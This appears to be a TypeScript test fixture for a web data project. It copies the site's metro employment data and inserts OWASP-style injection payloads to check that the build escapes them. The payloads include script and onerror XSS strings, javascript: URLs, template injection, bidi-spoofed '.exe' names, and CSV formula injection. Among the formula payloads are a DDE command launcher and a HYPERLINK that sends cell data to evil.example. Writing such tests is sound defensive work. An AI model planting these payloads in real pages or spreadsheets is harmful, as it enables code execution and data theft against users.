// Hostile source data: copies of data/sources and data/content whose metro names, source texts and a fact carry
// markup, SVG, javascript: URLs, bidi overrides and CSV formula prefixes. Every script payload calls pwn(n), so a
// page that defines pwn counts executions.
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";

const root = resolve(import.meta.dirname, "../..");

/** One payload per way text has become code in web pages and spreadsheets (OWASP XSS and CSV injection lists). */
export const PAYLOADS = [
  `<script>pwn(1)</script>Alpha`,
  `<img src=x onerror="pwn(2)">Beta`,
  `<svg onload=pwn(3)><circle r="9"/></svg>Gamma`,
  `javascript:pwn(4)//Delta`,
  `"><iframe srcdoc="<script>parent.pwn(5)</script>">Epsilon`,
  `Zeta \u202Egnp.exe\u202C Metro \u2066x\u2069`,
  `=HYPERLINK("https://evil.example/?"&A1,"Eta")`,
  `+SUM(1+1)*cmd|' /C calc'!A0 Theta`,
  `-2+3+cmd|' /C calc'!A0 Iota`,
  `@SUM(1+1) Kappa`,
  `\t=1+1 Lambda`,
  `\r=1+1 Mu`,
  `</title></style></textarea><a href="javascript:pwn(6)">Nu</a>`,
  `<style>*{display:none!important}</style><math><mtext><img src=x onerror=pwn(7)>Xi`,
  `{{constructor.constructor('pwn(8)')()}}\${pwn(9)} Omicron`,
] as const;

/** The bidi controls the build removes (the rest of the payload stays, as text). */
export const BIDI = /[\u202A-\u202E\u2066-\u2069]/;

const csvCell = (s: string) => `"${s.replaceAll('"', '""')}"`;

/** Writable copies of the sources and content with the payloads in: the metros with the highest location
 *  quotients are renamed (in both files that name them), the metro extract's source texts and one fact carry them. */
export function hostileSources(): { sourcesDir: string; contentDir: string; names: string[] } {
  const sourcesDir = mkdtempSync(join(tmpdir(), "atlas-hostile-sources-"));
  const contentDir = mkdtempSync(join(tmpdir(), "atlas-hostile-content-"));
  cpSync(join(root, "data/sources"), sourcesDir, { recursive: true });
  cpSync(join(root, "data/content"), contentDir, { recursive: true });

  const lqFile = join(sourcesDir, "metro-extracts/oews_may2024_15-2051_msa_employment_lq.csv");
  const medianFile = join(sourcesDir, "metro-extracts/oews_may2024_15-2051_msa_median_top37.csv");
  const lq = readFileSync(lqFile, "utf8").split("\n");
  let median = readFileSync(medianFile, "utf8");
  const names: string[] = [];
  // The metros the curated content names keep their names (the build checks those references).
  const referenced = new Set([
    "San Jose-Sunnyvale-Santa Clara, CA",
    "San Francisco-Oakland-Fremont, CA",
    "New York-Newark-Jersey City, NY-NJ",
    "Boston-Cambridge-Newton, MA-NH",
    "Seattle-Tacoma-Bellevue, WA",
    "Austin-Round Rock-San Marcos, TX",
  ]);
  let i = 1;
  for (const payload of PAYLOADS) {
    for (;;) {
      const line = lq[i]!;
      const m = /^"([^"]+)",([^\n]*)$/.exec(line) ?? /^([^,]+),([^\n]*)$/.exec(line);
      if (!m) throw new Error(`unexpected line ${line}`);
      const [, old, rest] = m;
      if (referenced.has(old!)) {
        i++;
        continue;
      }
      lq[i++] = `${csvCell(payload)},${rest}`;
      median = median.replace(`"${old}",`, `${csvCell(payload)},`);
      names.push(payload);
      break;
    }
  }
  writeFileSync(lqFile, lq.join("\n"));
  writeFileSync(medianFile, median);

  const registry = join(sourcesDir, "sources.json");
  const sources = JSON.parse(readFileSync(registry, "utf8")) as Record<string, unknown>[];
  const metro = sources.find((s) => s.id === "oews-msa-m2024-extract")!;
  metro.organisation = `${PAYLOADS[1]} ${PAYLOADS[5]}`;
  metro.title = `${PAYLOADS[0]} ${PAYLOADS[12]}`;
  metro.note = `${PAYLOADS[2]} ${PAYLOADS[3]} ${PAYLOADS[13]}`;
  metro.period = `${PAYLOADS[9]} May 2024`;
  writeFileSync(registry, JSON.stringify(sources, null, 1));

  const factsFile = join(contentDir, "facts.json");
  const facts = JSON.parse(readFileSync(factsFile, "utf8")) as Record<string, unknown>[];
  facts[0]!.title = `${PAYLOADS[4]} ${PAYLOADS[6]}`;
  // A fact's text may hold no number its figures do not: payloads without digits.
  facts[0]!.text = `<style>*{display:none!important}</style><img src=x onerror=pwn()>Xi {{constructor.constructor('pwn()')()}} \${pwn()} gnp\u202E.exe`;
  writeFileSync(factsFile, JSON.stringify(facts, null, 1));
  return { sourcesDir, contentDir, names };
}
